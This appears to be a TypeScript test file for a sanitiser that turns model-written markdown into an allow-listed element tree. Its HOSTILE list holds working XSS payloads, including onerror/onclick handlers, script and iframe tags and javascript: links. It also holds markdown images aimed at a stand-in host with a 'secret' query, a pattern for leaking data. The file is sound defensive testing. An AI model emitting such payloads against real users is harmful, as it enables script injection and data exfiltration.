/** What a model writes becomes only what the allow-list has. */
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { languageClass, parse, safeUrl, type IElement, type Tree } from '../src/answer/tree';

const ALLOWED = /^(?:a|blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|section|span|strong|sup|table|tbody|td|th|thead|tr|ul)$/;
const ATTRIBUTES = /^(?:align|class|href|rel|start|tabindex|target|title)$/;

function elements(tree: Tree): IElement[] {
  return typeof tree === 'string' ? [] : [tree, ...tree.children.flatMap(elements)];
}

function all(markdown: string): IElement[] {
  return parse(markdown).flatMap(block => elements(block.tree));
}

function textOf(tree: Tree): string {
  return typeof tree === 'string' ? tree : tree.children.map(textOf).join('');
}

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  'text <script>alert(1)</script> <b onclick="x()">b</b>',
  '[go](javascript:alert(1)) [go](data:text/html,x) [go](vbscript:x) [up](../x) [proto](//evil.example)',
  '[ref][r]\n\n[r]: javascript:alert(1)',
  '![a](https://evil.example/?q=secret) ![b][i]\n\n[i]: https://evil.example/i.png',
  '```"onclick=alert(1)\nx\n```',
  '<https://ok.example> <javascript:alert(1)>',
  '|a|b|\n|:-|-:|\n|<i>x</i>|[y](javascript:0)|',
  '- [x] <iframe src=//evil>\n\n[^1]: <style>*{}</style>\n\nsee[^1]'
];

test('only allowed tags and attributes come out, whatever goes in', () => {
  for (const node of HOSTILE.flatMap(all)) {
    assert.match(node.tag, ALLOWED);
    for (const [name, value] of Object.entries(node.attributes)) {
      assert.match(name, ATTRIBUTES);
      if (name === 'href') {
        assert.match(value, /^https?:\/\/|^mailto:/);
      }
    }
  }
});

test('HTML stays text and images become their address', () => {
  assert.equal(parse(HOSTILE[0] ?? '').map(block => textOf(block.tree)).join(), HOSTILE[0]);
  assert.equal(textOf(parse('![a](https://evil.example/x)')[0]?.tree ?? ''), '[image: https://evil.example/x]');
});

test('a link shows where it leads and gives its page no hold on ours', () => {
  const [link] = all('[docs](https://example.org/a)').filter(node => node.tag === 'a');
  assert.deepEqual(link?.attributes, {
    href: 'https://example.org/a',
    rel: 'noopener noreferrer',
    target: '_blank',
    title: 'https://example.org/a'
  });
  assert.equal(all('[docs](javascript:x)').some(node => node.tag === 'a'), false);
});

test('addresses other than web and mail are refused', () => {
  assert.equal(safeUrl('MAILTO:a@b.example'), 'MAILTO:a@b.example');
  for (const url of ['javascript:x', ' https://a', 'java\nscript:x', 'file:///etc', '//a', 'https:a', '']) {
    assert.equal(safeUrl(url), null);
  }
});

test('a language name keeps only letters, digits and +#-', () => {
  assert.equal(languageClass('C++'), 'language-c++');
  assert.equal(languageClass('py"onload='), 'language-pyonload');
  assert.equal(languageClass('"'), '');
});

test('a fence that is still open is one code block, and blocks before it keep their source', () => {
  const before = parse('# Title\n\nwords\n\n```py\nx = 1');
  const after = parse('# Title\n\nwords\n\n```py\nx = 1\ny = 2\n```\n\nend');
  assert.equal(before.length, 3);
  assert.deepEqual(after.slice(0, 2).map(block => block.source), before.slice(0, 2).map(block => block.source));
  assert.notEqual(after[2]?.source, before[2]?.source);
  assert.equal(textOf(after[2]?.tree ?? ''), 'x = 1\ny = 2');
});

test('a definition that comes late changes the source of the blocks it may concern', () => {
  const [before] = parse('see [a]');
  const [after] = parse('see [a]\n\n[a]: https://example.org');
  assert.notEqual(before?.source, after?.source);
});

test('tables, strikethrough and task lists are understood', () => {
  const tags = all('|a|\n|-|\n|b|\n\n~~c~~\n\n- [x] d').map(node => node.tag);
  for (const tag of ['table', 'th', 'td', 'del', 'li']) {
    assert.ok(tags.includes(tag), tag);
  }
});
